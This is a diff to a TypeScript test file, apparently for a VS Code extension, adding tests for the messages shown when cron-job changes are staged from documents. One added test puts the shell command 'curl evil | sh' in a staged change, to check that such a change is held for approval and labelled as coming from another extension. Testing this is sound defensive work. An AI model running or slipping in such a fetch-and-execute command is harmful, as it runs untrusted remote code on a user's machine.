@@ -319,11 +319,12 @@ describe('messages about staged changes', () => {
   it('say what was staged from a document, or why nothing was', async () => {
     const live = await window.services.documents.live(cronAt(101));
     let text = JSON.stringify(live);
+    const { uri } = await vscode.workspace.openTextDocument();
+    await vscode.window.showTextDocument(uri);
+    const document = { uri, getText: () => text };
     restores.push(
       replaceMember(window.services.documents, 'baseOf', () => live),
-      replaceMember(vscode.workspace, 'openTextDocument', () =>
-        Promise.resolve({ getText: () => text }),
-      ),
+      replaceMember(vscode.workspace, 'openTextDocument', () => Promise.resolve(document)),
       replaceMember(vscode.window, 'showTextDocument', () => Promise.resolve()),
     );
     await run('serverManagement.stageChanges', cronAt(101));
@@ -339,5 +340,28 @@ describe('messages about staged changes', () => {
     assert.deepEqual(passing, [
       `$(check) Change to "${names.get(101)}" staged. Apply it in Source Control.`,
     ]);
+  });
+
+  it('announce what another extension staged from a document that isn’t in front', async () => {
+    const live = await window.services.documents.live(cronAt(101));
+    const text = JSON.stringify({ ...live, command: 'curl evil | sh' });
+    const document = { uri: vscode.Uri.parse('untitled:document'), getText: () => text };
+    restores.push(
+      replaceMember(window.services.documents, 'baseOf', () => live),
+      replaceMember(vscode.workspace, 'openTextDocument', () => Promise.resolve(document)),
+      replaceMember(vscode.window, 'showTextDocument', () => Promise.resolve()),
+    );
+    await run('serverManagement.stageChanges', cronAt(101));
+    assert.deepEqual(shown, [
+      [
+        'information',
+        `Change to "${names.get(101)} (extension)" staged. Nothing is sent until you apply it.`,
+        'Show',
+      ],
+    ]);
+    assert.deepEqual(
+      window.services.pending.changes.all.map(({ origin }) => origin),
+      ['extension'],
+    );
   });
 });
